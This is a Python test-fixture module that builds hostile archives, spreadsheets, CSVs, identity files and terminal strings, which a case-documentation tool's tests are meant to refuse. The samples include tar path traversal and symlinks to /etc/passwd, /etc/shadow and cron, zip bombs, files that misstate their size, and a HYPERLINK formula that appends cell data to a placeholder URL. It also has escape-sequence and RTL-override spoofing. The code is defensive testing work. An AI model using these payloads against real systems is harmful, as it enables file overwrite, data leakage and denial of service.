"""The hostile-input corpus for the readers of outside data (issue 8), built at run time.

Shared by the tests that check each sample is refused (tests/adversarial/test_hostile_bundles.py,
test_hostile_bundle_import.py, test_hostile_enrollment_files.py, test_hostile_csv.py) and by the
benchmark that counts them (benchmarks/bench_hostile.py), so there is one corpus. Case JSON samples
are in tests/hostile/make_case_json.py (committed files). None of the bundle archives is committed;
the ones that declare a huge member carry only a few bytes of it.
"""

from __future__ import annotations

import base64
import hashlib
import io
import json
import os
import tarfile
from collections.abc import Callable
from dataclasses import dataclass

import pyrage

from forms import gazetteer, vocabularies
from storage.bundle import layout
from storage.vault import Vault
from tests.bundle_support import Party, encrypt_to, file_member, manifest_for, raw_tar, signed_members


# ---- bundles: archives that pass the outer layers and reach the tar parser -------------------------
def _member(name: str, kind: bytes = tarfile.REGTYPE, data: bytes | None = None, **attrs):
    info = tarfile.TarInfo(name)
    info.type = kind
    if data is not None:
        info.size = len(data)
    for k, v in attrs.items():
        setattr(info, k, v)
    return info, data


def _pax_path(name: str, real: str):
    """A member whose ustar name is harmless but whose PAX header renames it."""
    info = tarfile.TarInfo(real)
    info.size = 2
    info.pax_headers = {"path": name}
    return info, b"{}"


ATT = hashlib.sha256(b"pic").hexdigest()
HOSTILE_MEMBERS = {
    "path_traversal": file_member("records/../../../../tmp/tawthiq-escape.json", b"{}"),
    "absolute_path": file_member("/tmp/tawthiq-escape.json", b"{}"),
    "backslash_traversal": file_member("records\\..\\..\\escape.json", b"{}"),
    "pax_path_traversal": _pax_path("../../tawthiq-escape.json", "records/b.json"),
    "pax_absolute_path": _pax_path("/etc/cron.d/tawthiq", "records/b.json"),
    "symlink_to_etc": _member("records/b.json", tarfile.SYMTYPE, linkname="/etc/passwd"),
    "symlink_relative_escape": _member("records/b.json", tarfile.SYMTYPE, linkname="../../../.bashrc"),
    "hard_link_to_listed": _member("records/b.json", tarfile.LNKTYPE, linkname="records/a.json"),
    "hard_link_outside": _member("records/b.json", tarfile.LNKTYPE, linkname="/etc/shadow"),
    "char_device": _member("records/b.json", tarfile.CHRTYPE, devmajor=1, devminor=3),
    "block_device": _member("records/b.json", tarfile.BLKTYPE, devmajor=8, devminor=0),
    "fifo": _member("records/b.json", tarfile.FIFOTYPE),
    "directory": _member("records", tarfile.DIRTYPE),
    "duplicate_listed_name": file_member("records/a.json", b"{}"),
    "duplicate_head_member": file_member(layout.SUMS, b""),
    "name_with_nul": _member("records/a.json\0/etc/passwd", data=b"{}"),
    "unlisted_regular_file": file_member("records/zz.json", b"{}"),
    "contiguous_file_type": _member("records/b.json", tarfile.CONTTYPE, data=b"{}"),
}

# Record contents that a well-formed archive carries to the import's record checks.
HOSTILE_RECORDS = {
    "record_nested_100k": b"[" * 100_000 + b"]" * 100_000,
    "record_nan": b'{"kind": "case", "body": NaN}',
    "record_not_utf8": b'{"kind": "case", "title": "\xff\xfe"}',
    "record_wrong_types": b'{"kind": 5, "id": [], "version": "x"}',
    "record_empty": b"",
    "record_top_level_list": b"[]",
}

# Decrypted contents that are not a tar at all, or not a whole one.
NON_TAR_PLAINTEXTS = {
    "empty": b"",
    "zero_blocks": b"\0" * 10240,
    "not_a_tar": b"not a tar" * 1000,
    "gzip_magic": b"\x1f\x8b" + os.urandom(2000),  # compressed archives are not accepted
    "cut_inside_first_member": raw_tar([file_member("records/a.json", b"{}")])[:700],
}


def hostile_bundle(documenter: Party, coordinator: Party, files: dict[str, bytes], extra=(), replace=None) -> bytes:
    """A signed, encrypted bundle whose SHA256SUMS and manifest list `files`, plus hostile members."""
    records = {n: d for n, d in files.items() if n.startswith("records/")}
    atts = [d for n, d in files.items() if n.startswith("attachments/")]
    manifest = manifest_for(documenter, [coordinator.recipient], records, atts)
    members = signed_members(documenter, manifest, files)
    if replace is not None:
        members = replace(members)
    return encrypt_to(coordinator, raw_tar(members + list(extra)))


def signed_bundle_to(sender: Party, recipient: str, files: dict[str, bytes], extra=()) -> bytes:
    """As `hostile_bundle`, for a real vault: sent to its age recipient string."""
    records = {n: d for n, d in files.items() if n.startswith("records/")}
    manifest = manifest_for(sender, [recipient], records, [])
    plaintext = raw_tar(signed_members(sender, manifest, files) + list(extra))
    return pyrage.encrypt(plaintext, [pyrage.x25519.Recipient.from_str(recipient)])


def huge_attachment_bundle(documenter: Party, coordinator: Party) -> bytes:
    """An attachment's header and the manifest both claim 60 GiB; the archive carries 3 bytes."""
    files = {"records/a.json": b"{}", f"attachments/{ATT}": b"pic"}
    manifest = manifest_for(documenter, [coordinator.recipient], {"records/a.json": b"{}"}, [b"pic"])
    manifest["attachments"][0]["size"] = 60 << 30
    members = signed_members(documenter, manifest, files)
    info, _ = members[-1]
    info.size = 60 << 30
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w", format=tarfile.PAX_FORMAT) as tf:
        for head, data in members[:-1]:
            tf.addfile(head, io.BytesIO(data))
        buf.write(info.tobuf(format=tarfile.PAX_FORMAT))
        buf.write(b"pic")
        tf.fileobj = io.BytesIO()  # the archive ends here: no padding, no end blocks
    return encrypt_to(coordinator, buf.getvalue())


def huge_record_bundle(documenter: Party, coordinator: Party) -> bytes:
    """A record's header claims 10 GiB; refused before it is read."""
    members = signed_members(documenter, manifest_for(documenter, [coordinator.recipient],
                                                      {"records/a.json": b"{}"}, []), {"records/a.json": b"{}"})
    info, _ = members[-1]
    info.size = 10 << 30
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w", format=tarfile.PAX_FORMAT) as tf:
        for head, data in members[:-1]:
            tf.addfile(head, io.BytesIO(data))
        buf.write(info.tobuf(format=tarfile.PAX_FORMAT) + b"{}")
        tf.fileobj = io.BytesIO()
    return encrypt_to(coordinator, buf.getvalue())


def many_tiny_unlisted_bundle(documenter: Party, coordinator: Party, count: int = 5_000) -> bytes:
    tiny = [file_member(f"records/t{i}.json", b"{}") for i in range(count)]
    return hostile_bundle(documenter, coordinator, {"records/a.json": b"{}"}, extra=tiny)


def broken_checksum_bundle(documenter: Party, coordinator: Party) -> bytes:
    tar = bytearray(raw_tar(signed_members(documenter, manifest_for(documenter, [coordinator.recipient], {}, []),
                                           {})))
    tar[148:156] = b"0000000\0"  # the first header's checksum field
    return encrypt_to(coordinator, bytes(tar))


# Manifests whose `audit` (the sender's audit log position, issue 14) is not the documented shape.
_HEX = "ab" * 32
HOSTILE_AUDIT = {
    "audit_not_an_object": ["seq", 1],
    "audit_seq_2_to_the_63": {"seq": 1 << 63, "hash": _HEX, "previous": None},
    "audit_seq_zero": {"seq": 0, "hash": _HEX, "previous": None},
    "audit_seq_is_bool": {"seq": True, "hash": _HEX, "previous": None},
    "audit_hash_upper_case": {"seq": 3, "hash": _HEX.upper(), "previous": None},
    "audit_previous_after_head": {"seq": 3, "hash": _HEX, "previous": {"seq": 4, "hash": _HEX}},
    "audit_extra_key": {"seq": 3, "hash": _HEX, "previous": None, "note": "x"},
    "audit_previous_missing": {"seq": 3, "hash": _HEX},
}


def hostile_audit_bundle(documenter: Party, coordinator: Party, audit: object) -> bytes:
    manifest = manifest_for(documenter, [coordinator.recipient], {}, [])
    manifest["audit"] = audit
    return encrypt_to(coordinator, raw_tar(signed_members(documenter, manifest, {})))


def reader_corpus(documenter: Party, coordinator: Party) -> dict[str, bytes]:
    """Every hostile bundle for the reader, encrypted to `coordinator`, signed by `documenter`."""
    corpus = {f"member {name}": hostile_bundle(documenter, coordinator, {"records/a.json": b"{}"}, extra=[member])
              for name, member in sorted(HOSTILE_MEMBERS.items())}
    corpus["attachment declaring 60 GiB"] = huge_attachment_bundle(documenter, coordinator)
    corpus["record declaring 10 GiB"] = huge_record_bundle(documenter, coordinator)
    corpus["5,000 tiny unlisted members"] = many_tiny_unlisted_bundle(documenter, coordinator)
    corpus["broken header checksum"] = broken_checksum_bundle(documenter, coordinator)
    for name, audit in sorted(HOSTILE_AUDIT.items()):
        corpus[f"manifest {name}"] = hostile_audit_bundle(documenter, coordinator, audit)
    for name, plaintext in sorted(NON_TAR_PLAINTEXTS.items()):
        corpus[f"plaintext {name}"] = encrypt_to(coordinator, plaintext)
    return corpus


# ---- organisation profiles and identity files -----------------------------------------------------
WRONG_FINGERPRINT = " ".join(["00000"] * 12)  # well-formed, matches no key


def flip(raw: bytes, at: int) -> bytes:
    b = bytearray(raw)
    b[at % len(b)] ^= 0x01
    return bytes(b)


def enrollment_samples(profile: bytes, identity: bytes) -> dict[str, bytes]:
    """Hostile files built from a genuine profile and identity (for the flips and swaps)."""
    return {
        "empty": b"",
        "garbage": os.urandom(3000),
        "not_utf8": b"\xff\xfe\xfa" * 100,
        "nul_bytes": b"\0" * 1000,
        "deep_nesting": b"[" * 100_000 + b"]" * 100_000,
        "json_without_signature": b'{"coordinator_recipients": ["age1x"], "forms": {}}',
        "huge": b"a" * (20 << 20),
        "flipped_middle_byte": flip(profile, len(profile) // 2),
        "flipped_last_byte": flip(profile, -2),
        "truncated": profile[: len(profile) // 2],
        "identity_offered_as_profile": identity,
        "profile_offered_as_identity": profile,
        "flipped_identity": flip(identity, len(identity) // 3),
    }


PROFILE_SAMPLES = ["empty", "garbage", "not_utf8", "nul_bytes", "deep_nesting", "json_without_signature", "huge",
                   "flipped_middle_byte", "flipped_last_byte", "truncated", "identity_offered_as_profile"]
IDENTITY_SAMPLES = ["empty", "garbage", "deep_nesting", "huge", "profile_offered_as_identity", "flipped_identity"]


# ---- CSV imports of vocabularies and places -------------------------------------------------------
VOCAB_HEADER = b"code,en,ar\n"
PLACES_HEADER = b"code,level,parent,name_en,name_ar,variants,pcode\n"
OCHA_HEADER = b"admin1Pcode,admin1Name_en,admin1Name_ar,admin2Pcode,admin2Name_en,admin2Name_ar\n"

CSV_SAMPLES: dict[str, bytes] = {
    "empty": b"",
    "header_only_garbage": b"\xff\xfe\x00\x00",
    "not_utf8": VOCAB_HEADER + b"x1,\xff\xfe,\xc0\xaf\n",
    "utf16": "code,en,ar\nx1,a,ب\n".encode("utf-16"),
    "nul_bytes": VOCAB_HEADER + b"x1,a\x00b,\x00\n",
    "nul_only": b"\x00" * 5000,
    "unterminated_quote": VOCAB_HEADER + 'x1,"never closed,ب\n'.encode() * 10,
    "huge_single_field": VOCAB_HEADER + b"x1," + b"a" * (300 << 10) + b",b\n",
    "huge_quoted_field": VOCAB_HEADER + b'x1,"' + b"a" * (900 << 10) + b'",b\n',
    "many_columns": VOCAB_HEADER + b"x1,a,b" + b",c" * 100_000 + b"\n",
    "over_the_cap": VOCAB_HEADER + b"x1,a,b\n" * ((17 << 20) // 7),
    "duplicate_codes": VOCAB_HEADER + b"x1,a,b\nx1,c,d\n",
    "code_path_traversal": VOCAB_HEADER + b"../../etc/passwd,a,b\n",
    "code_with_rtl_override": VOCAB_HEADER + "x\u202e1,a,ب\n".encode(),
    "formula_injection": VOCAB_HEADER + b'x1,"=HYPERLINK(""http://x"")",b\n',
    "bare_carriage_returns": b"code,en,ar\rx1,a,b\rx2,c,d\r",
    "places_unknown_level": PLACES_HEADER + b"x1,planet,,Earth,,,\n",
    "places_parent_cycle": PLACES_HEADER + b"a1,district,b1,A,,,\nb1,district,a1,B,,,\n",
    "places_self_parent": PLACES_HEADER + b"a1,district,a1,A,,,\n",
    "ocha_malformed_pcode": OCHA_HEADER + b"SY../..,Homs,,,,\n",
    "ocha_deep_same_pcode": OCHA_HEADER + b"SY01,Homs,\xd8\xad\xd9\x85\xd8\xb5,SY01,Homs,\n",
    # Labels and names are one line of plain text of bounded length (the profile's JSON readers
    # share these rules: forms.vocabularies.terms_from_json, forms.gazetteer.places_from_json).
    "label_with_quoted_line_break": VOCAB_HEADER + b'x1,"two\nlines",b\n',
    "label_with_escape_sequence": VOCAB_HEADER + b"x1,\x1b[31mred,b\n",
    "places_name_too_long": PLACES_HEADER + b"x1,place,homs,," + b"a" * 201 + b",,\n",
    "places_parent_traversal": PLACES_HEADER + b"x1,place,../..,X,,,\n",
    "ocha_name_too_long": OCHA_HEADER + b"SY01," + b"a" * 201 + b",,,,\n",
}

CSV_READERS = {
    "vocabulary": lambda f: vocabularies.import_terms_csv("act_types", f),
    "places": lambda f: gazetteer.parse_places_csv(f),
}


# ---- outside text that reaches a terminal (issue 14 item 12) ----------------------------------------
def forged_trust_line(key_id: str, fingerprint: str) -> str:
    """An identity name that, printed raw by `trust --list`, adds a line saying `key_id` is trusted."""
    return f"Mallory\n{key_id}\ttrusted\t{fingerprint}\tdocumenter"


# Names and case titles as a person, a bundle or an identity file may carry them. Kept as data (they
# may be real); every CLI printer shows them escaped (app/commands/_display.py). None holds NUL, which
# case JSON refuses outright, or a lone surrogate, which a command-line argument cannot carry.
TERMINAL_TEXT_SAMPLES: dict[str, str] = {
    "escape_sequence_clear_screen": "\x1b[2J\x1b[H\x1b[31mnothing to see",
    "carriage_return_overwrite": "a real title\rREVOKED KEY NOW TRUSTED   ",
    "line_feed_forged_line": "a real title\nfe12ab34cd56ef78\ttrusted",
    "tab_forged_column": "title\tsealed\t2099-01-01",
    "c1_control_csi": "before\x9b31mafter",
    "delete_and_backspace": "abc\x7f\x08\x08xyz",
    "rtl_override": "invoice \u202eexe.pdf",
    "rtl_embedding_and_pop": "\u202bمخطوف\u202c ok",
    "rtl_isolate": "\u2067علي\u2069 \u2066x\u2069 \u2068y\u2069",
    "line_separator": "first\u2028second\u2029third",
}


# ---- bundles signed by a documenter the coordinator trusts (issue 14 items 1-6) -------------------
# A trusted documenter, or whoever holds a stolen documenter key, signs whatever it likes: these
# archives are well-formed and correctly signed and still must be refused, each for its own reason.
SAVED_AT = "2026-01-01T00:00:00+00:00"


def case_body(case_id: str, title: str = "hand made") -> dict:
    return {"id": case_id, "form": "kidnapping", "form_version": 1, "title": title}


def case_record(case_id: str, body: dict | None = None, attachments=(), sha256: str | None = None) -> dict:
    """A case record as the exporter writes it: one version, its hash over the canonical body."""
    from app.services.intake.cases import canonical_json

    body = case_body(case_id) if body is None else body
    if sha256 is None:
        sha256 = hashlib.sha256(canonical_json(body).encode("utf-8", "surrogatepass")).hexdigest()
    return {"kind": "case", "id": case_id, "attachments": list(attachments),
            "versions": [{"version": 1, "parent": None, "sha256": sha256, "saved_at": SAVED_AT, "body": body}]}


def record_bytes(record: dict) -> bytes:
    return layout.manifest_bytes(record)


def trusted_bundle(sender: Party, encrypted_to: list[str], records: dict[str, bytes], attachments=(), *,
                   sequence: int = 1, recipients: list[str] | None = None, comment: str | None = None,
                   kinds: dict[str, str] | None = None, tar: Callable[[list], bytes] | None = None) -> bytes:
    """A bundle signed by `sender`, encrypted to `encrypted_to`; the manifest names `recipients`
    (default: the same), the signature carries `comment` (default: the writer's)."""
    manifest = manifest_for(sender, recipients or encrypted_to, records, list(attachments), sequence)
    for entry in manifest["records"]:
        entry["kind"] = (kinds or {}).get(entry["path"], "case")
    files = {**records, **{f"attachments/{hashlib.sha256(a).hexdigest()}": a for a in attachments}}
    members = signed_members(sender, manifest, files, comment=comment)
    plaintext = (tar or raw_tar)(members)
    return pyrage.encrypt(plaintext, [pyrage.x25519.Recipient.from_str(r) for r in encrypted_to])


def negative_size_tar(members: list) -> bytes:
    """The last member's size field says -512 (GNU base-256), which tarfile decodes and GNU tar refuses."""
    buf = io.BytesIO()
    for info, data in members[:-1]:
        buf.write(info.tobuf(format=tarfile.GNU_FORMAT) + data + b"\0" * (-len(data) % tarfile.BLOCKSIZE))
    info, data = members[-1]
    info.size = -512
    buf.write(info.tobuf(format=tarfile.GNU_FORMAT) + data + b"\0" * (-len(data) % tarfile.BLOCKSIZE))
    return buf.getvalue() + b"\0" * (2 * tarfile.BLOCKSIZE)


@dataclass
class HeldByCoordinator:
    """What the coordinator already holds, which the hostile bundles aim at."""

    recipient: str  # the coordinator's own age recipient
    other_recipient: str  # a coordinator the bundles were never meant for
    others_case: str  # a case id received from another documenter
    own_case: str  # a case id received from this sender, version 1 held
    others_attachment: tuple[str, str]  # (attachment id, sha256) received from another documenter
    witness_record: dict  # a genuine witness record from this sender (identity sealed to the custodian)
    others_witness: str  # a witness pseudonym received from another documenter


def trusted_signer_corpus(sender: Party, held: HeldByCoordinator) -> dict[str, bytes]:
    """Every hostile bundle of issue 14 items 1-6, signed by `sender` (a documenter the coordinator
    trusts), each to be refused with exit 4 and the vault unchanged."""
    to_me = [held.recipient]
    fresh, fresh2 = "7d0e9a44-6a4e-4a53-9c39-2f3a1d5e8b01", "7d0e9a44-6a4e-4a53-9c39-2f3a1d5e8b02"

    def one_case(record: dict, **kw) -> bytes:
        # Not 2: bundle 1 is held and names its audit-log position, which a bundle 2 must continue
        # (received_evidence.check_history); 3 has no neighbour held, so only the sample's own flaw
        # can refuse it.
        kw.setdefault("sequence", 3)
        return trusted_bundle(sender, to_me, {f"records/{record['id']}.json": record_bytes(record)}, **kw)

    att_id, att_sha = held.others_attachment
    dup = record_bytes(case_record(fresh))
    dup = dup.rstrip()[:-1] + b', "kind": "case"}\n'  # the same key twice at the top level
    witness = dict(held.witness_record)
    clear = b'age-encryption.org/v1\n{"name_latin": "clear name behind an age header line"}'
    witness["sealed_identity"] = {**witness["sealed_identity"], "age": base64.b64encode(clear).decode()}
    witness_path = f"records/{witness['id']}.json"
    stranger = pyrage.x25519.Identity.generate().to_public()
    to_stranger = dict(held.witness_record)
    to_stranger["sealed_identity"] = {"recipient": str(stranger), "age": base64.b64encode(pyrage.encrypt(
        b'{"name_latin": "sealed to someone else"}', [stranger])).decode()}
    return {
        # 1. sequence numbers far beyond any real documenter's
        "sequence 2^62": one_case(case_record(fresh), sequence=2**62),
        "sequence 2^63": one_case(case_record(fresh), sequence=2**63),
        # 2. another documenter's file named by its hash, and an attachment id already held
        "attachment of another documenter named by hash, not carried": one_case(case_record(fresh, attachments=[
            {"id": "stolen-1", "sha256": att_sha, "size": 3, "media_type": "image/jpeg", "filename": "x.jpg"}])),
        "attachment id already held for other content": one_case(case_record(fresh, attachments=[
            {"id": att_id, "sha256": hashlib.sha256(b"other").hexdigest(), "size": 5, "media_type": "x",
             "filename": "x"}]), attachments=[b"other"]),
        "one attachment id for two contents in one bundle": trusted_bundle(sender, to_me, {
            f"records/{cid}.json": record_bytes(case_record(cid, attachments=[
                {"id": "shared-id", "sha256": hashlib.sha256(content).hexdigest(), "size": len(content),
                 "media_type": "x", "filename": "x"}]))
            for cid, content in ((fresh, b"one"), (fresh2, b"two"))}, attachments=[b"one", b"two"], sequence=3),
        # 3. what `case add` refuses
        "record with a NUL character": one_case(case_record(fresh, case_body(fresh, "a\u0000b"))),
        "record with a duplicate key": trusted_bundle(sender, to_me, {f"records/{fresh}.json": dup}, sequence=3),
        "record with a lone surrogate": trusted_bundle(sender, to_me, {f"records/{fresh}.json": json.dumps(
            case_record(fresh, case_body(fresh, "\ud800"), sha256="0" * 64)).encode()}, sequence=3),
        # 4. a tar member of negative size
        "member of negative size": one_case(case_record(fresh), tar=negative_size_tar),
        # 5. a clear identity behind an age header line
        "sealed identity that is clear text behind an age header line": trusted_bundle(
            sender, to_me, {witness_path: record_bytes(witness)}, kinds={witness_path: "witness"}, sequence=3),
        "sealed identity to a recipient other than the custodian": trusted_bundle(
            sender, to_me, {witness_path: record_bytes(to_stranger)}, kinds={witness_path: "witness"}, sequence=3),
        # 6. signatures tied to recipients and sequence; verify makes import's checks
        "signed for another coordinator, encrypted to this one": one_case(
            case_record(fresh), recipients=[held.other_recipient]),
        "trusted comment naming another sequence": one_case(case_record(fresh), sequence=5,
                                                           comment="tawthiq bundle b sequence 4"),
        "case id of another documenter": one_case(case_record(held.others_case)),
        "witness pseudonym of another documenter": trusted_bundle(
            sender, to_me, {f"records/{held.others_witness}.json": record_bytes(
                {**held.witness_record, "id": held.others_witness, "code": held.others_witness})},
            kinds={f"records/{held.others_witness}.json": "witness"}, sequence=3),
        "different body under a version already held": one_case(
            case_record(held.own_case, case_body(held.own_case, "rewritten")), sequence=3),
        # Issue 21: the media record an attachment carries (capture metadata, perceptual hashes)
        **{f"media: {name}": one_case(case_record(fresh, attachments=[
            {"id": "photo-1", "sha256": hashlib.sha256(b"img").hexdigest(), "size": 3, "media_type": "image/jpeg",
             "filename": "p.jpg", "media": media}]), attachments=[b"img"])
           for name, media in hostile_media_records().items()},
    }


def _media_record(**changes) -> dict:
    frame = {"frame": 0, "at_ms": None, "phash": "0f" * 8, "dhash": "f0" * 8, "mirror_phash": "1e" * 8,
             "mirror_dhash": "e1" * 8}
    record = {"capture": {"status": "read", "kind": "image", "make": "Samsung"}, "hash_status": "hashed",
              "kind": "image", "hashes": [frame]}
    for key, value in changes.items():
        if key == "frame":
            record["hashes"] = [{**frame, **value}]
        elif key == "capture":
            record["capture"] = {**record["capture"], **value}
        else:
            record[key] = value
    return record


def hostile_media_records() -> dict[str, object]:
    """Media records (bundle_media.check) a trusted documenter's app would never write."""
    many = [{"frame": i, "at_ms": i * 1000, "phash": "0f" * 8, "dhash": "f0" * 8, "mirror_phash": "1e" * 8,
             "mirror_dhash": "e1" * 8} for i in range(601)]
    return {
        "hash not 16 hex digits": _media_record(frame={"phash": "zz" * 8}),
        "hash of 65 bits": _media_record(frame={"dhash": "1" + "0" * 16}),
        "601 video frames": _media_record(kind="video", hashes=many),
        "two hashes for one photo": _media_record(hashes=many[:2]),
        "unknown key": _media_record(thumbnail="AAAA"),
        "latitude out of range": _media_record(capture={"gps": {"lat": 1e300, "lon": 0}}),
        "camera make of 1 MB": _media_record(capture={"make": "x" * (1 << 20)}),
        "control characters in software": _media_record(capture={"software": "evil\u202e\u0007"}),
        "hashes for a file that was not hashed": _media_record(hash_status="unreadable"),
        "not an object": ["capture"],
    }


def trusted_signer_world(root, make_vault: Callable[[str, str], Vault]) -> tuple[Vault, Party, HeldByCoordinator]:
    """A coordinator (returned unlocked) that trusts two documenters and holds a case, an attachment
    and a witness from them, through the real services; and the signer of one of them."""
    from app.services.custody import custodian
    from app.services.exchange import export, imports, organisation_profile, trust_list, witness_records
    from app.services.intake import cases, witnesses
    from storage import keyfile
    from tests.bundle_support import add_case
    from tests.witness_support import canary_witness

    coordinator, homs, tartus = (make_vault("coord", "coordinator"), make_vault("homs", "documenter"),
                                 make_vault("tartus", "documenter"))
    key = custodian.create_key(root / "custodian.key", "the keeper of names walks at dawn 77",
                               params=dict(keyfile.TEST_PARAMS))
    profile = organisation_profile.read_profile(
        organisation_profile.export_profile(coordinator, custodian_recipient=key.recipient))
    for documenter in (homs, tartus):
        organisation_profile.confirm_fingerprint(profile, profile.fingerprint)
        organisation_profile.import_profile(documenter, profile)
        trust_list.trust(coordinator, trust_list.read_identity(trust_list.export_identity(documenter)))
    others_case = add_case(tartus, "another documenter's case")
    others_witness = witnesses.add_witness(tartus, canary_witness(alias="Mariam"))
    (root / "photo.jpg").write_bytes(b"\xff\xd8" + bytes(range(256)) * 40)
    cases.attach_file(tartus, others_case, root / "photo.jpg")
    export.export_bundle(tartus, root / "tartus-1.tawthiq")
    own_case = add_case(homs, "the sender's own case")
    witnesses.add_witness(homs, canary_witness())
    export.export_bundle(homs, root / "homs-1.tawthiq")
    reports = imports.import_bundles(coordinator, [root / "tartus-1.tawthiq", root / "homs-1.tawthiq"])
    assert [r.status for r in reports] == ["imported", "imported"], [r.to_json() for r in reports]
    [witness_record] = witness_records.bundle_records(homs)
    assert witness_record["sealed_identity"] is not None  # sealed to the custodian, and accepted above
    attachment = coordinator.connection().execute("SELECT id, sha256 FROM attachments").fetchone()
    held = HeldByCoordinator(coordinator.age_recipient, Party().recipient, others_case, own_case,
                             (attachment[0], attachment[1]), witness_record, others_witness)
    sender = Party(key=homs.signing_key, key_id=homs.signing_key_id)
    homs.lock()
    tartus.lock()
    return coordinator, sender, held


# ---- spreadsheets for `case import` (issue 18) -----------------------------------------------------
# Each is refused as a whole before any row is read (app/services/intake/sheet_import/guard.py): one
# line, exit 4, the vault unchanged. The big ones declare their size or compress it: none writes GBs.
SHEET_MAPPING = {"tawthiq_sheet_mapping": 1, "form": "kidnapping", "fields": {"title": "title"}}


def _xlsx_bytes(rows: list[list], formula_at: tuple[int, int] | None = None) -> bytes:
    import xlsxwriter

    buffer = io.BytesIO()
    book = xlsxwriter.Workbook(buffer, {"in_memory": True, "strings_to_formulas": False})
    sheet = book.add_worksheet("Sheet1")
    for r, row in enumerate(rows):
        for c, value in enumerate(row):
            sheet.write(r, c, value)
    if formula_at is not None:
        sheet.write_formula(*formula_at, '=HYPERLINK("http://example.invalid/?"&A2,"open")', None, "open")
    book.close()
    return buffer.getvalue()


def _replace_member(workbook: bytes, name: str, data: bytes, level: int = 6) -> bytes:
    import zipfile

    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(workbook)) as src, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst:
        for info in src.infolist():
            body = data if info.filename == name else src.read(info)
            dst.writestr(info.filename, body, compress_type=zipfile.ZIP_DEFLATED, compresslevel=level)
    return out.getvalue()


def _declare_size(workbook: bytes, name: str, size: int) -> bytes:
    """The central directory claims `size` bytes for member `name` (its data stays a few bytes)."""
    import struct

    raw = bytearray(workbook)
    needle = name.encode()
    at = raw.find(b"PK\x01\x02")
    while at != -1:
        name_len = struct.unpack_from("<H", raw, at + 28)[0]
        if bytes(raw[at + 46:at + 46 + name_len]) == needle:
            struct.pack_into("<I", raw, at + 24, size)
        at = raw.find(b"PK\x01\x02", at + 4)
    return bytes(raw)


_SHEET_XML = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?><worksheet '
              'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>{rows}</sheetData>'
              '</worksheet>')


def _ods_bytes(rows_xml: str) -> bytes:
    import zipfile

    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr(zipfile.ZipInfo("mimetype"), "application/vnd.oasis.opendocument.spreadsheet")
        z.writestr("META-INF/manifest.xml", '<?xml version="1.0"?><manifest:manifest xmlns:manifest="urn:oasis:'
                   'names:tc:opendocument:xmlns:manifest:1.0"><manifest:file-entry manifest:full-path="/" '
                   'manifest:media-type="application/vnd.oasis.opendocument.spreadsheet"/><manifest:file-entry '
                   'manifest:full-path="content.xml" manifest:media-type="text/xml"/></manifest:manifest>')
        z.writestr("content.xml", '<?xml version="1.0"?><office:document-content xmlns:office="urn:oasis:names:tc:'
                   'opendocument:xmlns:office:1.0" xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0" '
                   'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0"><office:body><office:spreadsheet>'
                   f'<table:table table:name="S">{rows_xml}</table:table></office:spreadsheet></office:body>'
                   '</office:document-content>')
    return out.getvalue()


def sheet_samples(folder) -> dict[str, object]:
    """name -> path of each hostile spreadsheet, written under `folder` (a few MB in all)."""
    from pathlib import Path

    folder = Path(folder)
    folder.mkdir(parents=True, exist_ok=True)
    good = _xlsx_bytes([["title"], ["a case"]])
    cell = '<table:table-row><table:table-cell office:value-type="string"><text:p>title</text:p></table:table-cell>' \
           '</table:table-row>'
    samples: dict[str, bytes] = {
        "formula_cells.xlsx": _xlsx_bytes([["title"], ["a case"]], formula_at=(1, 1)),
        "million_columns.csv": b"title" + b",x" * 1_000_000 + b"\r\n",
        "million_columns.xlsx": _replace_member(good, "xl/worksheets/sheet1.xml", _SHEET_XML.format(
            rows='<row r="1"><c r="A1" t="inlineStr"><is><t>title</t></is></c>'
                 '<c r="BDWGN1" t="inlineStr"><is><t>x</t></is></c></row>').encode()),
        "repeated_columns.ods": _ods_bytes(cell + '<table:table-row table:number-rows-repeated="1000">'
                                           '<table:table-cell table:number-columns-repeated="16384" '
                                           'office:value-type="string"><text:p>x</text:p></table:table-cell>'
                                           '</table:table-row>'),
        "formula_cells.ods": _ods_bytes(cell + '<table:table-row><table:table-cell table:formula="of:=1+1" '
                                        'office:value-type="float" office:value="2"><text:p>2</text:p>'
                                        '</table:table-cell></table:table-row>'),
        # 64 MiB of XML whitespace deflates to ~64 KiB: refused by the ratio, not by unpacking it.
        "zip_bomb.xlsx": _replace_member(good, "xl/worksheets/sheet1.xml", _SHEET_XML.format(
            rows=" " * (64 << 20)).encode(), level=9),
        # A 2 GB cell: the shared strings part declares 2 GiB (its data is a few bytes).
        "two_gb_cell.xlsx": _declare_size(good, "xl/sharedStrings.xml", 2 << 30),
        "invalid_utf8.csv": b"title,date\r\n\xff\xfe\xc0\xaf,2025-01-01\r\n",
        "nul_bytes.csv": b"title\r\na\x00b\r\n",
        "line_over_4_mib.csv": b"title\r\n" + b"a" * (5 << 20),
        "not_a_workbook.xlsx": b"title\r\nthis is not a zip\r\n",
        "truncated.xlsx": good[: len(good) // 2],
    }
    paths: dict[str, object] = {}
    for name, raw in samples.items():
        path = folder / name
        path.write_bytes(raw)
        paths[name] = path
    # A 2 GB cell in a CSV: a sparse file, its size seen before a byte is read.
    sparse = folder / "two_gb_cell.csv"
    with open(sparse, "wb") as fh:
        fh.write(b'title\r\n"')
        fh.seek((2 << 30) - 1)
        fh.write(b'"')
    paths["two_gb_cell.csv"] = sparse
    return paths
